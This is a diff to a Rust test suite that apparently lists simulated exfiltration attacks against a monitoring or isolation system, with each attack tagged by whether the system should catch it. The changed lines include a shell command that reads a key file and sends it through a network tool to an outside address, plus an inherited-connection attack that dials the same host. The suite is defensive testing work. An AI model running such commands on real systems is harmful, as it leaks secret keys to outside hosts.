@@ -10,7 +10,7 @@ use anyhow::{Context as _, Result, ensure};
 
 use super::{
     Attack, attack,
-    expected::{CAUGHT, open},
+    expected::{CALLERS_ONLY, CAUGHT, open},
     stage::{Goal, READ, Stage, Tried, pids, root},
     untried,
 };
@@ -41,7 +41,12 @@ pub const ATTACKS: &[Attack] = &[
         "pipe_within_a_unit",
         "a pipe from the reader to the sender, in one unit",
         CAUGHT,
-        |s| script(s, "cat /srv/t/unit-key | /opt/t/other tcp 10.20.0.66:9000"),
+        |s| {
+            script(
+                s,
+                "cat /srv/t/unit-key | { read line; /opt/t/other tcp 10.20.0.66:9000; }",
+            )
+        },
     ),
     attack(
         "B02",
@@ -416,7 +421,7 @@ pub const ATTACKS: &[Attack] = &[
         "B26",
         "inherited_connection",
         "a connection that a process has from whoever started it",
-        CAUGHT,
+        CALLERS_ONLY,
         |s| s.sends(&["dial 10.20.0.66:9000", "fork"], &["send"]),
     ),
     untried(
